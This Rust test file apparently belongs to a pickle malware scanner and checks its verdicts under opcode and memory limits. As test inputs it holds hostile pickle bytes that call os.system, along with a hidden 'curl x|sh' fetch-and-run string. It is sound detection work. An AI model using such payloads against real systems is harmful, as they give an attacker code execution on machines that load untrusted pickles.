//! What a stream may cost, and what is known of it beyond that.

use super::{Dialect, Pickle, see_as};
use crate::limits::Limits;
use crate::verdict::Verdict;

#[test]
fn limits_are_findings_and_what_was_found_stands() {
    let limits = Limits { opcodes_max: 100_000, ..Limits::default() };
    let seen = see_as(&Pickle::new().attack().op(b"0").op(&b"N0".repeat(200_000)).stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Malicious);
    assert!(seen.worst("SNS-901").is_some());
    let seen = see_as(&Pickle::new().op(&b"N0".repeat(200_000)).stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Unscannable);
    // Behind the limit, spelled-out imports are still looked for.
    let seen = see_as(&Pickle::new().op(&b"N0".repeat(200_000)).attack().stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Malicious);
    // A full arena forgets data, not calls.
    let limits = Limits { values_max: 1_000, ..Limits::default() };
    let seen = see_as(&Pickle::new().op(&b"K\x01\x850".repeat(100_000)).attack().stop(), Dialect::Plain, &limits);
    assert_eq!(seen.verdict, Verdict::Malicious, "{:#?}", seen.findings);
}

/// A list of `rows` small dictionaries, each memoized, as protocol 2 writes them.
fn rows(rows: u32, out: &mut Vec<u8>) {
    out.extend(b"\x80\x02]q\x00");
    for row in 0..rows {
        out.extend(b"(}r");
        out.extend((1 + 2 * row).to_le_bytes());
        out.extend(b"X\x02\0\0\0idr");
        out.extend((2 + 2 * row).to_le_bytes());
        out.extend(b"G\0\0\0\0\0\0\0\0K\x01\x86se");
    }
}

#[test]
fn a_stream_of_any_length_is_followed_in_bounded_memory() {
    let limits = Limits { values_max: 300_000, ..Limits::default() };
    let mut long = Vec::new();
    rows(60_000, &mut long);
    let mut clean = long.clone();
    clean.push(b'.');
    let seen = see_as(&clean, Dialect::Plain, &limits);
    assert_eq!(seen.worst("SNS-901"), None, "{:?}", seen.findings);
    // What comes after is judged as ever: by name, by a text that the memo has, by arguments.
    for payload in
        [&b"cos\nsystem\nX\x02\0\0\0id\x85R0."[..], b"X\x02\0\0\0osX\x06\0\0\0system\x93X\x02\0\0\0id\x85R0."]
    {
        let mut bad = long.clone();
        bad.extend(payload);
        assert_eq!(see_as(&bad, Dialect::Plain, &limits).verdict, Verdict::Malicious);
    }
    // Arguments that were forgotten: what the call does is not known, and that is said.
    let mut hidden = b"\x80\x02X\x0a\0\0\0curl x|sh \x85q\xff0".to_vec();
    rows(60_000, &mut hidden);
    hidden.extend(b"cours.x\nmake\nh\xffR.");
    let seen = see_as(&hidden, Dialect::Plain, &limits);
    assert_ne!(seen.verdict, Verdict::Clean, "{:?}", seen.findings);
}
